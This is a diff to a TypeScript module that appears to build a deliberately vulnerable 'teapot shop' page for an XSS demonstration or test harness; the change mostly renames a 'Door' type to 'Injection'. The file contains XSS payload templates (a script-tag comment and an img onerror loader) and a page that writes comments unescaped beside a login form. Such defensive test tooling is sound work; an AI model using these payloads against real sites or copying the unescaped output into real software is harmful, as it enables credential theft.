@@ -1,4 +1,4 @@
-import type { Door } from "./model.ts";
+import type { Injection } from "./model.ts";
 import type { XssRun } from "./runs.ts";
 
 /** What a vulnerable page is written with. */
@@ -8,7 +8,7 @@ export type PageTarget = {
   readonly script: string;
   /** Where a form without a script sends what is typed into it. */
   readonly loot: string;
-  /** Where alice's hands tell what they did. */
+  /** Where alice's part tells what she did. */
   readonly steps: string;
   /** The next page of the play. */
   readonly next: string;
@@ -16,8 +16,8 @@ export type PageTarget = {
   readonly nonce: string;
 };
 
-/** What the attacker writes as a comment, by the door through which it gets in. */
-export const comments: Readonly<Record<Door, (target: Pick<PageTarget, "script" | "loot">) => string>> = {
+/** What the attacker writes as a comment, by how it gets into the page. */
+export const comments: Readonly<Record<Injection, (target: Pick<PageTarget, "script" | "loot">) => string>> = {
   html: ({ script }) => `<script src="${script}"></script>`,
   dom: ({ script }) =>
     `<img src="data:," onerror="document.head.append(Object.assign(document.createElement('script'), { src: '${script}' }))">`,
@@ -28,13 +28,13 @@ export const comments: Readonly<Record<Door, (target: Pick<PageTarget, "script" 
 /** The page as it is served. Each defence is one line of it, or one header. */
 export function vulnerablePage(target: PageTarget, defences: PageDefences = pageDefences) {
   const { run, steps, next, nonce } = target;
-  const { place, door, defence, plan, inWorker } = run;
-  const comment = comments[door](target);
+  const { place, injection, defence, plan, inWorker } = run;
+  const comment = comments[injection](target);
   const isEncoded = defence === "encoding";
   const written = isEncoded ? defences.encoding(comment) : comment;
   const data = {
     ...{ flow: place.flow, variant: place.variant, keeping: place.keeping, worker: inWorker, encodes: isEncoded },
-    ...{ plan, door, steps, next, ...(door === "dom" && { comment }) },
+    ...{ plan, injection, steps, next, ...(injection === "dom" && { comment }) },
   };
   const attributes = Object.entries(data).map(([name, value]) => `data-${name}="${encoded(String(value))}"`);
   const html = [
@@ -42,7 +42,7 @@ export function vulnerablePage(target: PageTarget, defences: PageDefences = page
     '<html lang="en"><meta charset="utf-8"><title>A shop that is vulnerable on purpose</title>',
     `<body ${attributes.join(" ")} style="font:16px/1.5 system-ui;margin:2rem">`,
     "<h1>Teapots</h1>",
-    `<ul id="comments"><li>${door === "dom" ? "Fine tea." : written}</li></ul>`,
+    `<ul id="comments"><li>${injection === "dom" ? "Fine tea." : written}</li></ul>`,
     '<form id="login"><input type="text" name="username" aria-label="Name"> <input type="password" name="password" aria-label="Password"> <button>Log in</button></form>',
     `<script type="module" nonce="${nonce}" src="alice.js"></script>`,
   ];
